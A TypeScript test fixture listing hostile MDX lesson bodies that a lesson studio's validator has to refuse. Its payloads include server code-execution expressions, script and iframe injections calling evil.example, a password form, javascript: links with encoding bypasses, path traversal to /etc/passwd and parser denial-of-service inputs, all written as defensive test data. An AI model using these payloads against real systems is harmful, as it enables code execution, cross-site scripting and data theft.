// Lesson bodies a hostile author might write. Each would run code in the server, reach the
// network, put script or a foreign page into a learner's browser, or wear out the parser, if it
// got through; each must be refused by checkLessonBody (app/models/authored-mdx.server.ts) before
// anything compiles it, naming `line`: the line of the body, as the studio's text box numbers it
// (checkLessonBody with bodyLine 1). "CANARY" is replaced by a file path the tests watch: the
// payloads that run code would create it or end the process. Reused by the unit tests
// (authored-mdx, studio) and, later, the end-to-end suite.
export interface HostileBody {
  name: string;
  body: string;
  line: number;
}

/** The payload on line 3, between two ordinary paragraphs. */
const at3 = (name: string, payload: string): HostileBody => ({ name, body: `A calm first paragraph.\n\n${payload}\n\nA closing line.\n`, line: 3 });

const write = "require('fs').writeFileSync('CANARY', 'ran')";

export const HOSTILE_BODIES: HostileBody[] = [
  // Code: import/export and { } run in the server when the compiled lesson is loaded.
  at3("an expression that writes a file", `{${write}}`),
  at3("an expression that exits", "{process.exit(1)}"),
  at3("an expression that writes with an absolute path", "{require('fs').writeFileSync('/tmp/x','')}"),
  at3("an inline expression", "Text {globalThis.process.exit(1)} more text."),
  at3("an expression that starts a process", "{require('child_process').execSync('touch CANARY')}"),
  at3("an MDX comment (it is an expression too)", "{/* a note for managers */}"),
  at3("an import", "import fs from 'fs'"),
  at3("an import of a module that runs on load", "import 'CANARY'"),
  at3("an export that runs at load", `export const x = ${write}`),
  at3("an export default layout that exits", "export default function Layout() { process.exit(1) }"),
  { name: "an import after ordinary text", body: "A calm first paragraph.\n\nMore text.\n\nimport cp from 'child_process'\n", line: 5 },
  { name: "an expression in a heading", body: "## A heading {process.exit(1)}\n\nText.\n", line: 1 },
  { name: "an expression in a list item", body: "Text.\n\n- one\n- {process.exit(1)}\n", line: 4 },
  { name: "an expression in a link text", body: `Text.\n\n> [see {${write}}](https://example.com)\n`, line: 3 },
  { name: "an expression inside a component", body: `<Tip>\n\nA tip.\n\n{${write}}\n\n</Tip>\n`, line: 5 },
  // Elements other than the lesson components: HTML, unknown components, fragments, members.
  at3("a script element", "<script>fetch('https://evil.example')</script>"),
  at3("an iframe", '<iframe src="https://evil.example"></iframe>'),
  at3("a style element", "<style>body { display: none }</style>"),
  at3("an image element", '<img src="x" onerror="alert(1)" />'),
  at3("a plain div", "<div>hello</div>"),
  at3("an HTML link to javascript:", '<a href="javascript:alert(1)">click</a>'),
  at3("an inline HTML link", 'Call us <a href="https://evil.example">here</a> today.'),
  at3("a form", '<form action="https://evil.example"><input name="password" /></form>'),
  at3("a meta refresh", '<meta httpEquiv="refresh" content="0;url=https://evil.example" />'),
  at3("an object", '<object data="https://evil.example/x.swf"></object>'),
  at3("an svg with a namespaced script", "<svg:script>alert(1)</svg:script>"),
  at3("a lowercase component name", "<tip>\n\nhello\n\n</tip>"),
  at3("an unknown component", "<Quiz />"),
  at3("a fragment", "<>hello</>"),
  at3("a member element", "<a.b>hello</a.b>"),
  // Attributes: only Scenario's title, as plain text.
  at3("an event handler on a component", '<Tip onClick="alert(1)">\n\nhi\n\n</Tip>'),
  at3("an event handler beside a title", '<Scenario title="Monday" onMouseOver="alert(1)">\n\nhi\n\n</Scenario>'),
  at3("dangerouslySetInnerHTML", '<Tip dangerouslySetInnerHTML="x">\n\nhi\n\n</Tip>'),
  at3("an expression attribute", "<Scenario title={process.exit(1)}>\n\nhi\n\n</Scenario>"),
  at3("an expression attribute that writes a file", `<Scenario title={${write}}>\n\nhi\n\n</Scenario>`),
  at3("a spread attribute", "<Scenario {...globalThis}>\n\nhi\n\n</Scenario>"),
  at3("a style attribute", '<Scenario style="color: red">\n\nhi\n\n</Scenario>'),
  at3("an expression attribute on an inline component", `Some <Tip title={${write}}>text</Tip> here.`),
  // Link targets: allow-listed after normalising, however the scheme is spelled.
  at3("a javascript: link", "[click](javascript:alert(1))"),
  at3("a JavaScript: link in capitals", "[click](JavaScript:alert(1))"),
  at3("an entity-encoded javascript: link", "[click](&#106;avascript:alert(1))"),
  at3("a hex-entity javascript: link", "[click](&#x6A;&#x61;vascript:alert(1))"),
  at3("a named-entity colon", "[click](javascript&colon;alert(1))"),
  at3("a tab inside the scheme", "[click](java&#x09;script:alert(1))"),
  at3("a newline entity inside the scheme", "[click](java&#10;script:alert(1))"),
  at3("a control character before the scheme", "[click](&#1;javascript:alert(1))"),
  at3("leading spaces inside angle brackets", "[click](<  javascript:alert(1)>)"),
  at3("a percent-encoded javascript: link", "[click](%6Aavascript:alert(1))"),
  at3("a double-encoded javascript: link", "[click](&amp;#106;avascript:alert(1))"),
  at3("a vbscript: link", "[click](vbscript:msgbox)"),
  at3("a data: link", "[click](data:text/html,<script>alert(1)</script>)"),
  at3("a file: link", "[click](file:///etc/passwd)"),
  at3("an http: link", "[click](http://evil.example)"),
  at3("a protocol-relative link", "[click](//evil.example/x)"),
  at3("a backslash protocol-relative link", String.raw`[click](\\\\evil.example/x)`),
  at3("an autolink to javascript:", "<javascript:alert(1)>"),
  { name: "a reference definition to javascript:", body: "A calm first paragraph.\n\n[click][x]\n\n[x]: javascript:alert(1)\n", line: 5 },
  // Picture targets: https: or the lesson's own images/<name>, always with alt text.
  at3("a data: image", "![a picture](data:image/png;base64,AAAA)"),
  at3("an svg data: image", "![a picture](data:image/svg+xml,<svg onload=alert(1)>)"),
  at3("a picture from another site over http", "![a picture](http://evil.example/x.png)"),
  at3("a protocol-relative picture", "![a picture](//evil.example/x.png)"),
  at3("a picture that requests a page of the site", "![a picture](/logout)"),
  at3("a picture outside the lesson", "![a picture](../../etc/passwd)"),
  at3("a picture that climbs out of images/", "![a picture](images/../../secret.png)"),
  at3("a picture with no alt text", "![](images/desk.png)"),
  at3("a picture whose alt text is only spaces", "![   ](images/desk.png)"),
  { name: "a picture reference to a page of the site", body: "A calm first paragraph.\n\n![the desk][pic]\n\n[pic]: /manage/people\n", line: 3 },
  // What the MDX parser refuses.
  at3("an HTML comment", "<!-- a comment -->"),
  at3("a processing instruction", "<?php system('id'); ?>"),
  at3("an unclosed component", "<Tip>\n\nhi"),
  { name: "a mismatched closing tag", body: "A calm first paragraph.\n\n<Tip>\n\nhi\n\n</Scenario>\n", line: 7 },
  at3("an unclosed brace", "Text { more text"),
  // Limits, checked before the parser sees the text.
  { name: "a thousand nested quotes", body: `A calm first paragraph.\n\n${">".repeat(1000)} deep\n`, line: 3 },
  { name: "100,000 > characters", body: ">".repeat(100_000), line: 1 },
  { name: "deeply nested components", body: `A calm first paragraph.\n\n${"<Tip>\n\n".repeat(40)}x\n`, line: 27 },
  { name: "50,000 nested components", body: "<Tip>\n\n".repeat(50_000), line: 1 },
  at3("thirteen nested lists on one line", `${"- ".repeat(13)}deep`),
  at3("a line indented 60 spaces", `${" ".repeat(60)}- deep`),
  at3("10,000 [ brackets", "[".repeat(10_000)),
  at3("emphasis nested 200 deep", `${"*".repeat(200)}a${"*".repeat(200)}`),
  at3("a long brace the parser would search slowly", `{${"/".repeat(5_000)}}`),
  { name: "a 1 MB line of *", body: "*".repeat(1_000_000), line: 1 },
  { name: "a body far too long", body: `A calm first paragraph.\n\n${"word ".repeat(20_000)}\n`, line: 1 },
  { name: "too many lines", body: "Line.\n".repeat(2_001), line: 1 },
];
